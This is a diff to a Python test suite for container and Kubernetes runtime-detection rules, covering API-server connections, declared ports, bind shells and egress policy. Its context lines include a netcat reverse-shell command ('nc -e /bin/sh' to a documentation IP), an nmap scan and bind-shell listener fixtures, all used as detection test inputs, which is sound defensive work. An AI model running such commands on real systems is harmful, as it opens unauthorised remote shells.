@@ -43,6 +43,11 @@ def listen(port: int, name: str = "app", base=CTR) -> dict:
             "proc.name": name, "proc.exepath": f"/usr/bin/{name}", "proc.cmdline": name}
 
 
+POD = {**CTR, "k8s.pod.uid": "6f1c2d3e-0000-4000-8000-000000000001", "k8s.sa.name": "default",
+       "k8s.workload.kind": "Deployment", "k8s.workload.name": "api"}
+API_PEER = {**POD, "k8s.peer.kind": "service", "k8s.peer.name": "kubernetes",
+            "k8s.peer.ns.name": "default", "k8s.peer.svc.name": "kubernetes",
+            "k8s.peer.svc.ns.name": "default"}
 RESTRICTED = {**CTR, "k8s.pod.labels": {"app": "api", "netvigil.io/egress-policy": "strict"}}
 
 CASES = {
@@ -83,6 +88,9 @@ CASES = {
         execve("nc", "-e /bin/sh 198.51.100.7 4444"), execve("nc", "-zv 198.51.100.7 4444")),
     "Suspicious Network Tool Launched": (execve("nmap", "-sS 10.0.0.0/24"),
                                          execve("nslookup", "example.com")),
+    "Unexpected Kubernetes API Server Connection from Pod": (
+        conn("10.96.0.1", 443, **API_PEER),
+        conn("10.96.0.1", 443, **{**API_PEER, "k8s.ns.name": "kube-system"})),
 }
 
 
@@ -138,3 +146,53 @@ def test_tuning_by_overriding_lists_and_macros() -> None:
     assert not rs.evaluate(listen(4444))
     assert not rs.evaluate(conn("93.184.216.34", 443, base=RESTRICTED))
     assert rs.evaluate(conn("93.184.216.34", 8443, base=RESTRICTED))
+
+
+def _fired(shipped, event: dict) -> list[str]:
+    return [m.rule for m in shipped.evaluate(event)]
+
+
+def test_a_listening_port_the_pod_declares_is_expected(shipped) -> None:
+    declared = {**listen(4444), "k8s.pod.ports": [4444], "k8s.pod.lport_declared": True}
+    undeclared = {**listen(4444), "k8s.pod.ports": [8080], "k8s.pod.lport_declared": False}
+    assert "Unexpected Listening Port in Container" not in _fired(shipped, declared)
+    assert "Unexpected Listening Port in Container" in _fired(shipped, undeclared)
+
+
+def test_interpreter_serving_its_declared_port_or_a_loopback_dev_server_is_ordinary(shipped) -> None:
+    rule = "Interpreter Opened a Listening Socket"
+    served = {**listen(8000, "python3"), "k8s.pod.ports": [8000], "k8s.pod.lport_declared": True}
+    dev = {**listen(8000, "python3", HOST), "fd.lip": "127.0.0.1", "fd.sip": "127.0.0.1"}
+    bind_shell = {**listen(4444, "python3"), "k8s.pod.ports": [8000], "k8s.pod.lport_declared": False}
+    host_bind_shell = listen(4444, "perl", HOST)   # 0.0.0.0: reachable, nothing declares it
+    assert rule not in _fired(shipped, served)
+    assert rule not in _fired(shipped, dev)
+    assert rule in _fired(shipped, bind_shell)
+    assert rule in _fired(shipped, host_bind_shell)
+
+
+def test_egress_policy_by_namespace_label(shipped) -> None:
+    labelled_ns = {**CTR, "k8s.ns.labels": {"netvigil.io/egress-policy": "strict"}}
+    assert "Unauthorized Egress Connection" in _fired(shipped, conn("93.184.216.34", 443, base=labelled_ns))
+    assert "Unauthorized Egress Connection" not in _fired(shipped, conn("93.184.216.34", 443))
+
+
+def test_system_binaries_include_falcos_coreutils_and_user_management(shipped) -> None:
+    rule = "System Binary Making Network Connection"
+    for name in ("base64", "shred", "chpasswd", "unix_chkpwd"):
+        assert rule in _fired(shipped, conn("93.184.216.34", 443, base=HOST, **{"proc.name": name}))
+    assert rule not in _fired(shipped, conn("93.184.216.34", 443, base=HOST, **{"proc.name": "id"}))
+
+
+def test_api_server_rule_allows_expected_clients(shipped) -> None:
+    rule = "Unexpected Kubernetes API Server Connection from Pod"
+    assert rule not in _fired(shipped, conn("10.96.0.1", 443, **{**API_PEER, "k8s.sa.name": "netvigil"}))
+    other = {**API_PEER, "k8s.peer.svc.name": "backend", "k8s.peer.name": "backend"}
+    assert rule not in _fired(shipped, conn("10.96.0.9", 8080, **other))
+
+
+def test_outputs_show_pod_namespace_and_image(shipped) -> None:
+    for rule in shipped.rules:
+        text = rule.output if isinstance(rule.output, str) else str(rule.output)
+        for field in ("%k8s.pod.name", "%k8s.ns.name", "%container.image"):
+            assert field in text, (rule.name, field)
